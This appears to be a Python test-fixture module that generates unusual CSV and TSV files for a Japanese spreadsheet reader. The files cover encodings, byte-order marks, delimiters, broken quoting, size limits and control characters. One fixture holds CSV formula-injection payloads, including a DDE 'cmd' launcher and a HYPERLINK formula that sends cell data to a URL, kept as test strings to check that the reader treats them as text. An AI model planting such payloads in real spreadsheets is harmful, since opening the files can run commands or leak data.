"""Text files: every encoding of an office with and without its mark, delimiters, quotation marks, and what is none."""

from __future__ import annotations

from functools import partial

from kyoten.reader.workbook import LIMITS, Sheet, Value
from strange_workbooks.family import Expected, Family

files = Family("csv")

Rows = tuple[tuple[Value, ...], ...]
ROWS = (
    ("事業名", "四半期", "進捗率", "評価", "担当課"),
    ("子育て支援①", "令和６年度 第１四半期", "５０％", "◎", "福祉課"),
    ("㈱髙﨑～表", "R6.7", "1,200", "△", "改行\nあり"),
    ("防災", "平成31年4月", "-", "×", "危機管理課"),
)
TEXT = (
    "事業名,四半期,進捗率,評価,担当課\r\n"
    "子育て支援①,令和６年度 第１四半期,５０％,◎,福祉課\r\n"
    '㈱髙﨑～表,R6.7,"1,200",△,"改行\r\nあり"\r\n'
    "防災,平成31年4月,-,×,危機管理課\r\n"
)
PLAIN = str.maketrans({"①": "1", "㈱": "株", "髙": "高", "﨑": "崎"})
"""What JIS X 0208 has in their place, for the encodings that know no more; ～ there is 〜 (U+301C)."""


def encoded(text: str, encoding: str, mark: bytes = b"") -> bytes:
    return mark + text.encode(encoding)


def sheet(name: str, rows: Rows = ROWS) -> tuple[Sheet, ...]:
    """A text file's one sheet is named as the file is."""
    return (Sheet(name, rows, textual=True),)


def in_encoding(name: str, encoding: str, mark: bytes = b"", *, plain: bool = False) -> None:
    text, rows = TEXT, ROWS
    if plain:
        text = TEXT.translate(PLAIN).replace("～", "〜")
        rows = tuple(tuple(cell.translate(PLAIN).replace("～", "〜") for cell in row) for row in ROWS)
    files.add(f"{name}.csv", partial(encoded, text, encoding, mark), sheet(name, rows))


in_encoding("UTF-8", "utf-8")
in_encoding("UTF-8の印付き", "utf-8-sig")
in_encoding("CP932", "cp932")
in_encoding("EUC-JP", "euc_jp", plain=True)
in_encoding("ISO-2022-JP", "iso2022_jp", plain=True)
in_encoding("UTF-16LE", "utf-16-le")
in_encoding("UTF-16BE", "utf-16-be")
in_encoding("UTF-16LEの印付き", "utf-16-le", b"\xff\xfe")
in_encoding("UTF-16BEの印付き", "utf-16-be", b"\xfe\xff")
in_encoding("UTF-32LEの印付き", "utf-32-le", b"\xff\xfe\0\0")
in_encoding("UTF-32BEの印付き", "utf-32-be", b"\0\0\xfe\xff")


def written(name: str, text: str, expected: Expected | Rows, form: str = "csv") -> None:
    """A file in UTF-8; rows are those of its one sheet."""
    stem = name.rpartition(".")[0]
    files.add(
        name, partial(encoded, text, "utf-8"), expected if isinstance(expected, str) else sheet(stem, expected), form
    )


written("タブ区切り.tsv", "事業名\t進捗率\n子育て,支援\t50\n", (("事業名", "進捗率"), ("子育て,支援", "50")), "tsv")
written("セミコロン区切り.csv", "事業名;進捗率\n子育て,支援;50\n", (("事業名", "進捗率"), ("子育て,支援", "50")))
written("区切りの宣言.csv", "sep=;\na,x;b\n1;2\n", (("sep=", None), ("a,x", "b"), ("1", "2")))
written("行末がCR.csv", "a,b\r1,2\r", (("a", "b"), ("1", "2")))
written("行末がまちまち.csv", "a,b\r\n1,2\n3,4\r5,6", (("a", "b"), ("1", "2"), ("3", "4"), ("5", "6")))
written("HTMLの残るタブ区切り.tsv", 'a\t<ul style="x">\n1\t2\n', (("a", '<ul style="x">'), ("1", "2")), "tsv")
written("引用でない引用符.tsv", 'a\t"親子"の居場所\n1\t2\n', (("a", '"親子"の居場所'), ("1", "2")), "tsv")
written("一列だけ.csv", "一列だけ\n値\n", (("一列だけ",), ("値",)))
written("空行だらけ.csv", "\n\na,b\n\n1,\n\n", ((None, None), (None, None), ("a", "b"), (None, None), ("1", None)))
written("閉じない引用符.csv", 'a,"閉じない\n"b,c",2\n3,4\n', (("a", '"閉じない'), ("b,c", "2"), ("3", "4")))
written("引用符の中の引用符.csv", 'a,"彼は""はい"""\n1,2\n', (("a", '彼は"はい"'), ("1", "2")))
written("長さの違う行.csv", "a,b,c\n1\n1,2\n", (("a", "b", "c"), ("1", None, None), ("1", "2", None)))
INJECTION = ('=HYPERLINK("http://127.0.0.1/x?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1")
written(
    "数式の注入.csv",
    "事業名,進捗率\r\n" + "".join('"' + word.replace('"', '""') + '",50%\r\n' for word in INJECTION),
    (("事業名", "進捗率"), *((word, "50%") for word in INJECTION)),
)
written("列が多すぎる.csv", "," * LIMITS.columns + "x\n" * 2, "too_many_cells")
written("行が多すぎる.csv", "a,b\n" * (LIMITS.rows + 1), "too_many_cells")
written("長すぎるセル.csv", f"a,{'あ' * (LIMITS.cell_text + 1)}\n", "cell_text_too_long")
written("NULのある.csv", "a,b\r\n1,\x002\r\n", "unknown_type")
written("制御文字のある.csv", "a,b\r\n1,\x012\r\n", "unknown_type")
written("空行だけ.csv", "\r\n\r\n", "no_sheet")
written("文章だけ.xlsx", "議事録です。\n以上\n", "unknown_type")
files.add("どの文字コードでもない.csv", lambda: "項目,実績".encode() + b"\x81\xff\xff,\xfd", "unknown_encoding")
files.add("csvと名の付くxlsx.xlsx", partial(encoded, TEXT, "cp932"), sheet("csvと名の付くxlsx"))
